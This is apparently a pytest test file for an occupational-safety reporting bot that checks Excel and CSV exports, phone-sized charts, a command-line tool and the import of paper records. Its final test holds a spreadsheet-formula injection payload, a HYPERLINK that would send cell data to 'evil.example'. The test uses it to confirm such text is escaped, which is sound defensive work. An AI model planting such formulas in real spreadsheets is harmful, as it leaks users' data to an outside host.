"""Spreadsheets, CSV files, charts, the command line and the paper-round import."""

from __future__ import annotations

import csv
import json
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlmodel import select
from typer.testing import CliRunner

from bot.cli import app
from models.db import Database
from models.tables import Improvement, ReviewStatus, Visit, VisitStatus
from reports.charts import summary_charts
from reports.figures import parse_period
from reports.files import write_reports
from reports.paper_import import import_improvements
from tests.factories import TODAY, TZ, seed, summarise

PNG = b"\x89PNG\r\n\x1a\n"


def rows(path: Path, sheet: str) -> list[tuple[object, ...]]:
    workbook = load_workbook(path, read_only=True)
    try:
        found = list(workbook[sheet].iter_rows(values_only=True))
        # A write-only sheet stores no cell for an empty value: a row ending in empty cells
        # reads back shorter than its header.
        width = len(found[0]) if found else 0
        return [row + (None,) * (width - len(row)) for row in found]
    finally:
        workbook.close()


def test_workbook_reads_back_with_every_sheet(database: Database, tmp_path: Path) -> None:
    seed(database)
    written = write_reports(tmp_path, database.url, period=parse_period("2027-Q1"), today=TODAY,
                            tz=TZ, language="en")  # fmt: skip
    workbook = load_workbook(written.xlsx_path, read_only=True)
    # Other journeys may add sheets of their own after these (events do).
    assert workbook.sheetnames[:5] == ["Enterprises", "Improvements", "Survey answers", "Visits",
                                       "Summary"]  # fmt: skip
    workbook.close()
    enterprises = rows(written.xlsx_path, "Enterprises")
    assert enterprises[0] == ("enterprise id", "provider", "enterprise", "sector", "province",
                              "workers", "training date", "archived")  # fmt: skip
    assert len(enterprises) == 1 + 4  # E5 is trained after the quarter
    improvements = rows(written.xlsx_path, "Improvements")
    assert len(improvements) == 1 + 6
    first = dict(zip(improvements[0], improvements[1], strict=True))
    assert first["area"] == "Storage & handling" and first["risk before"] == 9
    # Shown in programme time: submitted 2027-01-05T03:00Z is 10:00 in Viet Nam.
    assert str(first["submitted"]) == "2027-01-05 10:00:00"
    visits = rows(written.xlsx_path, "Visits")
    assert len(visits) == 1 + 6  # due in the quarter, the cancelled one included, April's not
    summary = rows(written.xlsx_path, "Summary")
    figures = {(r[0], r[1], r[2]): (r[3], r[4] if len(r) > 4 else None) for r in summary[1:]}
    assert figures[("improvements", None, "total")][0] == 6
    assert figures[("risk before and after", "all", "mean risk before")] == (6.25, 4)
    assert figures[("workers", None, "work is safer (1–5)")] == (4, 3)


def test_worker_answers_leave_only_from_released_rounds(database: Database,
                                                       tmp_path: Path) -> None:  # fmt: skip
    import sqlalchemy as sa

    from models.tables import SurveyResponse

    seed(database)
    with database.session() as session:
        session.execute(
            sa.update(SurveyResponse)
            .where(SurveyResponse.contact_id.is_(None))
            .values(released=False)
        )
    written = write_reports(tmp_path, database.url, period=parse_period("2027-Q1"), today=TODAY,
                            tz=TZ, language="en")  # fmt: skip
    answers = rows(written.xlsx_path, "Survey answers")
    assert answers[0] == ("enterprise", "round", "questionnaire", "employer response",
                          "question", "answer")  # fmt: skip
    # No worker unit is released: only employers' rows leave.
    questionnaires = {row[2] for row in answers[1:]}
    assert questionnaires == {"Employer feedback after the support round"}
    assert all(row[3] is not None for row in answers[1:])
    # Once a round is released, its worker rows leave, with no response number.
    with database.session() as session:
        session.execute(sa.update(SurveyResponse).values(released=True))
    again = write_reports(tmp_path / "again", database.url, period=parse_period("2027-Q1"),
                          today=TODAY, tz=TZ, language="en")  # fmt: skip
    worker_rows = [r for r in rows(again.xlsx_path, "Survey answers")[1:]
                   if r[2] == "Worker feedback"]  # fmt: skip
    assert worker_rows and all(row[3] is None for row in worker_rows)
    assert "Bụi nhiều" in {row[5] for row in worker_rows}


def test_suppressed_figures_say_so_in_the_files(database: Database, tmp_path: Path) -> None:
    seed(database)
    written = write_reports(tmp_path, database.url, period=parse_period("2027-Q1"), today=TODAY,
                            tz=TZ, language="vi")  # fmt: skip
    del written
    from reports.figures import Scope

    wood = write_reports(tmp_path / "wood", database.url, period=parse_period("2027-Q1"),
                         scope=Scope(sector_code="wood"), today=TODAY, tz=TZ)  # fmt: skip
    summary = rows(wood.xlsx_path, "Tổng hợp")
    safer = next(r for r in summary if r[2] == "công việc an toàn hơn (1–5)")
    assert safer[3] == "quá ít câu trả lời để hiển thị" and safer[4] == 2
    with (wood.xlsx_path.parent / "csv" / "summary.csv").open(encoding="utf-8-sig") as handle:
        assert "quá ít câu trả lời để hiển thị" in handle.read()
    text = wood.text_path.read_text(encoding="utf-8")
    assert "| công việc an toàn hơn (1–5) | | quá ít câu trả lời để hiển thị |" in text
    data = json.loads(wood.json_path.read_text(encoding="utf-8"))
    assert data["workers"]["safer"] == {"n": 2, "mean": None, "distribution": [0, 0, 0, 0, 0],
                                        "shown": False}  # fmt: skip


def test_csv_files_match_the_sheets(database: Database, tmp_path: Path) -> None:
    seed(database)
    written = write_reports(tmp_path, database.url, period=parse_period("2027-Q1"), today=TODAY,
                            tz=TZ, language="vi")  # fmt: skip
    assert {p.name for p in written.csv_paths} >= {
        "enterprises.csv", "improvements.csv", "summary.csv", "survey_answers.csv", "visits.csv",
    }  # fmt: skip
    with (tmp_path / "csv" / "improvements.csv").open(encoding="utf-8-sig") as handle:
        table = list(csv.reader(handle))
    assert table[0][:4] == ["mã cải thiện", "mã doanh nghiệp", "doanh nghiệp", "lĩnh vực"]
    assert len(table) == 1 + 6
    assert "2027-01-05 10:00" in {row[15] for row in table[1:]}


def test_charts_are_drawn_for_a_phone_screen(database: Database) -> None:
    """Chat images are read on phones: at 390 CSS pixels across, no text is under 11 pixels,
    and nothing is cut off at the edges."""
    from reports.charts import FIGURES, PHONE_TEXT, text_sizes

    seed(database)
    for summary in (summarise(database), summarise(database, "2026")):
        for language in ("vi", "en"):
            for name, draw in FIGURES.items():
                _title, figure = draw(summary, language)
                figure.canvas.draw()
                renderer = figure.canvas.get_renderer()  # type: ignore[attr-defined]
                width, height = figure.bbox.width, figure.bbox.height
                assert width == 1080, name
                sizes = text_sizes(figure)
                assert sizes and min(size for _t, size in sizes) >= PHONE_TEXT, (name, sizes)
                for text in figure.findobj(lambda a: hasattr(a, "get_text")):
                    if not (text.get_visible() and str(text.get_text()).strip()):
                        continue
                    box = text.get_window_extent(renderer)
                    assert box.x0 >= -1 and box.x1 <= width + 1, (name, text.get_text())
                    assert box.y0 >= -1 and box.y1 <= height + 1, (name, text.get_text())


def test_ratings_of_fewer_than_three_answers_draw_no_bar(database: Database) -> None:
    from matplotlib.patches import Rectangle

    from reports.charts import ratings_figure

    seed(database)
    summary = summarise(database)  # Q1: two employers answered, three workers
    assert summary.employers.usefulness.n == 2 and summary.workers.safer.n == 3
    _title, figure = ratings_figure(summary, "vi")
    employers, safer, _tiring = figure.axes
    texts = [t.get_text() for t in figure.findobj(lambda a: hasattr(a, "get_text"))]
    # One or two employers' answers would be a 50 or 100 % bar: a note instead.
    assert not [p for p in employers.patches if isinstance(p, Rectangle) and p.get_height()]
    assert "quá ít câu trả lời để hiển thị" in texts
    assert len(safer.patches) == 5
    # The count and the mean read as words, not as "(n = 3, 4,0)".
    assert "Người lao động: công việc an toàn hơn\n3 câu trả lời · trung bình 4,0" in texts
    assert not any("n =" in text for text in texts)


def test_charts_are_pngs_even_without_data(database: Database) -> None:
    seed(database)
    for summary in (summarise(database), summarise(database, "2026"),
                    summarise(database, sector_code="wood")):  # fmt: skip
        charts = summary_charts(summary, "vi")
        assert [c.name for c in charts] == ["improvements_per_area", "risk_per_area", "ratings"]
        for chart in charts:
            assert chart.png.startswith(PNG) and len(chart.png) > 5_000


# -- the command line ------------------------------------------------------------------------


@pytest.fixture
def cli(database: Database, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> CliRunner:
    monkeypatch.setenv("OSHBOT_DATABASE_URL", database.url)
    monkeypatch.setenv("OSHBOT_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.chdir(tmp_path)
    return CliRunner()


def test_cli_summary_in_every_format(cli: CliRunner, database: Database, tmp_path: Path) -> None:
    programme = seed(database)
    text = cli.invoke(app, ["summary", "--period", "2027-Q1", "--language", "en"])
    assert text.exit_code == 0, text.output
    assert "Follow-up summary, quarter 1/2027" in text.output and "| Storage & handling | 2 |" in (
        text.output
    )
    data = cli.invoke(app, ["summary", "--period", "2027-Q1", "--provider", str(programme.p2),
                            "--format", "json"])  # fmt: skip
    assert data.exit_code == 0, data.output
    assert json.loads(data.output)["enterprises"]["in_programme"] == 1
    target = tmp_path / "q1.xlsx"
    book = cli.invoke(app, ["summary", "--period", "2027-03-31..2027-04-01", "--format", "xlsx",
                            "--out", str(target)])  # fmt: skip
    assert book.exit_code == 0, book.output
    assert len(rows(target, "Cải thiện")) == 1 + 2
    wrong = cli.invoke(app, ["summary", "--period", "2027-13"])
    assert wrong.exit_code == 1 and "Unknown period" in wrong.output


def test_cli_export_writes_workbook_and_csv(cli: CliRunner, database: Database,
                                            tmp_path: Path) -> None:  # fmt: skip
    seed(database)
    result = cli.invoke(app, ["export", "--out", str(tmp_path / "out"), "--period", "2027"])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "out" / "oshbot-2027.xlsx").exists()
    assert (tmp_path / "out" / "csv" / "visits.csv").exists()
    # The year: the quarter's six, i4 of April, and E5's (trained in May, so in this year).
    assert len(rows(tmp_path / "out" / "oshbot-2027.xlsx", "Cải thiện")) == 1 + 8


def paper_file(path: Path) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["Doanh nghiệp", "Ngày", "Lĩnh vực", "Nội dung cải thiện", "Chi phí",
                  "Số người hưởng lợi", "Rủi ro trước", "Rủi ro sau", "Đã xác nhận"])  # fmt: skip
    sheet.append(["Xưởng mộc Hòa Phát", date(2026, 11, 20), "Lưu giữ, vận chuyển",
                  "Kệ ba tầng cho ván gỗ", "1.200.000", 6, "3x3", "1x2", "có"])  # fmt: skip
    sheet.append(["1", "21/11/2026", "machine", "Che chắn dây curoa máy cưa", 300000, None,
                  None, None, None])  # fmt: skip
    sheet.append([None] * 9)
    sheet.append(["Không có thật", "21/11/2026", "machine", "Một cải thiện", 0, 1, 6, 2, ""])
    sheet.append(["1", "21/11/2099", "bay", "abc", -5, "nhiều", 12, None, "maybe"])
    sheet.append(["1", "22/11/2026", "welfare", "Nước uống mát", None, 3, 6, None, None])
    workbook.save(path)
    return path


def test_paper_rounds_import_with_errors_by_line(database: Database, tmp_path: Path) -> None:
    programme = seed(database)
    path = paper_file(tmp_path / "giay.xlsx")
    with database.session() as session:
        report = import_improvements(session, path, provider_id=programme.p1, today=TODAY, tz=TZ)
    assert len(report.created) == 2
    assert report.failed_lines == [5, 6, 7]
    codes = {(e.line, e.code) for e in report.errors}
    assert (5, "unknown_enterprise") in codes
    assert {(6, "date_in_future"), (6, "unknown_area"), (6, "description_too_short"),
            (6, "cost_invalid"), (6, "workers_invalid"), (6, "risk_invalid"),
            (6, "verified_invalid")} <= codes  # fmt: skip
    assert (7, "risk_incomplete") in codes
    with database.session() as session:
        stored = session.exec(
            select(Improvement).where(Improvement.source == "paper").order_by(Improvement.id)  # type: ignore[arg-type]
        ).all()
    first, second = stored
    assert (first.cost_vnd, first.cost_band, first.risk_before_score, first.risk_after_score) == (
        1_200_000, "1m_5m", 9, 2,
    )  # fmt: skip
    assert first.status == ReviewStatus.VERIFIED and second.status == ReviewStatus.SUBMITTED
    # Noon in Viet Nam on the recorded day.
    assert first.submitted_at is not None and first.submitted_at.isoformat().startswith(
        "2026-11-20T05:00"
    )
    assert summarise(database, "2026-11").improvements.total == 2
    # The same file again: nothing doubles.
    with database.session() as session:
        again = import_improvements(session, path, provider_id=programme.p1, today=TODAY, tz=TZ)
    assert again.created == [] and {e.code for e in again.errors if e.line in (2, 3)} == {
        "duplicate"
    }


def test_cli_import_reports_lines(cli: CliRunner, database: Database, tmp_path: Path) -> None:
    programme = seed(database)
    path = tmp_path / "paper.csv"
    path.write_text("enterprise;date;area;description\n"
                    f"{programme.e2};15/10/2026;workstation;Ghế có tựa lưng\n"
                    f"{programme.e2};15/10/2026;nowhere;Ghế có tựa lưng\n",
                    encoding="utf-8")  # fmt: skip
    result = cli.invoke(app, ["import", "improvements", str(path), "--language", "en"])
    assert result.exit_code == 1
    assert "Line 3: “nowhere” is not one of the six technical areas." in result.output
    assert "Imported 1 improvement." in result.output and "1 row was not imported:" in result.output
    assert "unknown_area" not in result.output
    # Four problems in one row are one row not imported.
    path.write_text("enterprise;date;area;description\n"
                    "999;15/10/2099;nowhere;abc\n", encoding="utf-8")  # fmt: skip
    result = cli.invoke(app, ["import", "improvements", str(path)])
    assert result.exit_code == 1 and "1 dòng không được nhập:" in result.output
    assert "Dòng 2: không tìm thấy doanh nghiệp “999”." in result.output


# -- what the reader sees when the workbook opens --------------------------------------------


def book(path: Path):  # type: ignore[no-untyped-def]
    return load_workbook(path)  # not read-only: views, widths and styles are read too


def test_every_sheet_opens_with_frozen_headers_filters_and_wide_enough_columns(
    database: Database, tmp_path: Path
) -> None:
    seed(database)
    written = write_reports(tmp_path, database.url, period=parse_period("2027"), today=TODAY,
                            tz=TZ, language="vi")  # fmt: skip
    workbook = book(written.xlsx_path)
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes == "A2", sheet.title
        last = sheet.cell(row=1, column=sheet.max_column).column_letter
        assert sheet.auto_filter.ref == f"A1:{last}{sheet.max_row}", sheet.title
        assert sheet.cell(row=1, column=1).font.bold
        for column in range(1, sheet.max_column + 1):
            letter = sheet.cell(row=1, column=column).column_letter
            width = sheet.column_dimensions[letter].width
            for row in range(2, sheet.max_row + 1):
                cell = sheet.cell(row=row, column=column)
                # Excel needs about 11 characters for 31/12/2027 and 17 with the time.
                if cell.is_date:
                    needed = 17 if "hh" in cell.number_format else 11
                    assert width >= needed, (sheet.title, letter, width)


def test_costs_dates_and_means_are_formatted_and_codes_are_words(
    database: Database, tmp_path: Path
) -> None:
    seed(database)
    with database.session() as session:
        # One report made on Zalo: its source reads as the app's name, like Telegram's.
        first = session.exec(select(Improvement).order_by(Improvement.id)).first()  # type: ignore[arg-type]
        assert first is not None
        first.source = "zalo"
        session.add(first)
    written = write_reports(tmp_path, database.url, period=parse_period("2027"), today=TODAY,
                            tz=TZ, language="vi")  # fmt: skip
    workbook = book(written.xlsx_path)
    improvements = workbook["Cải thiện"]
    header = [cell.value for cell in improvements[1]]
    by_name = {name: index + 1 for index, name in enumerate(header)}
    sources = {improvements.cell(row=r, column=by_name["nguồn"]).value
               for r in range(2, improvements.max_row + 1)}  # fmt: skip
    assert {"Telegram", "Zalo"} <= sources
    costs = [improvements.cell(row=r, column=by_name["chi phí (đồng)"])
             for r in range(2, improvements.max_row + 1)]  # fmt: skip
    amount = next(c for c in costs if c.value == 500_000)
    assert amount.number_format == '#,##0 "đ"' and isinstance(amount.value, int)
    submitted = improvements.cell(row=2, column=by_name["đã gửi"])
    assert submitted.is_date and submitted.number_format == "dd/mm/yyyy hh:mm"
    bands = {improvements.cell(row=r, column=by_name["mức chi phí"]).value
             for r in range(2, improvements.max_row + 1)}  # fmt: skip
    assert {"Dưới 1 triệu", "1–5 triệu"} <= bands
    # No stored code reaches a Vietnamese reader, in any sheet or CSV file.
    codes = {"under_1m", "1m_5m", "over_5m", "free", "good_practice", "submitted", "verified",
             "telegram", "zalo", "paper", "planned", "confirmed", "done", "missed", "cancelled",
             "storage", "workstation", "wood", "garment", "da-nang", "can-tho", "employer",
             "worker"}  # fmt: skip
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(min_row=2, values_only=True):
            assert not codes & {value for value in row if isinstance(value, str)}, row
    for path in written.csv_paths:
        with path.open(encoding="utf-8-sig") as handle:
            for row in list(csv.reader(handle))[1:]:
                assert not codes & set(row), (path.name, row)
    enterprises = workbook["Doanh nghiệp"]
    trained = enterprises.cell(row=2, column=7)
    assert trained.is_date and trained.number_format == "dd/mm/yyyy"
    summary = workbook["Tổng hợp"]
    lines = {(r[0].value, r[2].value): r for r in summary.iter_rows(min_row=2)}
    median = lines[("cải thiện", "chi phí trung vị (đồng)")]
    # The count beside the median is the number of amounts it was taken from: 7 of the year's
    # 8 reports with a cost (one gave a band only).
    assert (median[3].value, median[3].number_format, median[4].value) == (
        300_000, '#,##0 "đ"', 7,
    )  # fmt: skip
    mean = lines[("rủi ro trước và sau", "rủi ro trung bình trước")]
    assert mean[3].number_format == "0.0"
    first_day = lines[("tổng hợp", "ngày đầu")]
    assert first_day[3].is_date and first_day[3].number_format == "dd/mm/yyyy"
    english = write_reports(tmp_path / "en", database.url, period=parse_period("2027"),
                            today=TODAY, tz=TZ, language="en")  # fmt: skip
    cost = book(english.xlsx_path)["Improvements"].cell(row=3, column=6)
    assert cost.number_format == '#,##0 "VND"'


def test_a_workshop_that_people_attended_took_place(database: Database, tmp_path: Path) -> None:
    from models.tables import Contact, Event, Role, Rsvp

    programme = seed(database)
    with database.session() as session:
        people = []
        for user in range(900, 905):
            person = Contact(telegram_user_id=user, chat_id=user, role=Role.EMPLOYER,
                             enterprise_id=programme.e1)  # fmt: skip
            session.add(person)
            session.flush()
            people.append(person.id)

        def event(title: str, starts: str, status: str = "planned", attended: int = 0) -> None:
            row = Event(provider_id=programme.p1, kind="achievement_workshop", title=title,
                        starts_at=datetime.fromisoformat(starts).replace(tzinfo=UTC),
                        checkin_code=title, status=status)  # fmt: skip
            session.add(row)
            session.flush()
            for index, person in enumerate(people):
                came = row.starts_at if index < attended else None
                session.add(Rsvp(event_id=row.id, contact_id=person, answer="going",
                                 invited_at=row.starts_at, attended_at=came))  # fmt: skip

        event("held", "2027-03-20T07:00:00", attended=4)
        event("nobody", "2027-03-21T07:00:00")
        event("later", "2027-05-01T07:00:00")
        event("off", "2027-03-22T07:00:00", status="cancelled")
    written = write_reports(tmp_path, database.url, period=parse_period("2027"), today=TODAY,
                            tz=TZ, language="vi")  # fmt: skip
    status = {row[3]: row[4] for row in rows(written.xlsx_path, "Sự kiện")[1:]}
    assert status == {
        "held": "đã diễn ra",
        "nobody": "đã qua, chưa ghi nhận người dự",
        "later": "đã lên kế hoạch",
        "off": "đã hủy",
    }


def test_text_that_looks_like_a_formula_stays_text(database: Database, tmp_path: Path) -> None:
    programme = seed(database)
    attack = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
    with database.session() as session:
        session.add(Improvement(enterprise_id=programme.e1, status=ReviewStatus.SUBMITTED,
                                submitted_at=datetime(2027, 3, 3, 3, tzinfo=UTC),
                                area_code="storage", description=attack, cost_vnd=1_200_000,
                                risk_before_score=6, risk_after_score=2))  # fmt: skip
        for text in ("+84 90 123", "-2+3", "@SUM(1+1)", "\tcmd", "\rcmd"):
            session.add(Visit(enterprise_id=programme.e2, due_on=date(2027, 3, 3),
                              status=VisitStatus.DONE, notes=text,
                              done_at=datetime(2027, 3, 3, 3, tzinfo=UTC)))  # fmt: skip
    written = write_reports(tmp_path, database.url, period=parse_period("2027"), today=TODAY,
                            tz=TZ, language="en")  # fmt: skip
    workbook = book(written.xlsx_path)
    # No cell anywhere in the workbook is a formula.
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), sheet.title
    improvements = workbook["Improvements"]
    [cell] = [c for c in improvements["E"] if c.value == attack]
    # Text, with Excel's own quote prefix: shown as written, still text when edited.
    assert cell.data_type == "s" and cell.quotePrefix
    row = cell.row
    assert improvements.cell(row=row, column=6).value == 1_200_000  # numbers stay numbers
    assert improvements.cell(row=row, column=11).value == 6
    notes = {c.value for c in workbook["Visits"]["H"] if c.value}
    assert {"+84 90 123", "-2+3", "@SUM(1+1)", "\tcmd", "\rcmd"} <= notes
    with zipfile.ZipFile(written.xlsx_path) as archive:
        assert not any(
            b"<f>" in archive.read(name) for name in archive.namelist() if "worksheets" in name
        )
    with (tmp_path / "csv" / "improvements.csv").open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.reader(handle))
    [line] = [r for r in table if r[4].endswith('"Bấm vào đây")')]
    assert line[4] == "'" + attack and line[5] == "1200000" and line[10] == "6"
    with (tmp_path / "csv" / "visits.csv").open(encoding="utf-8-sig", newline="") as handle:
        notes_csv = {r[7] for r in csv.reader(handle)}
    assert {"'+84 90 123", "'-2+3", "'@SUM(1+1)", "'\tcmd", "'\rcmd"} <= notes_csv
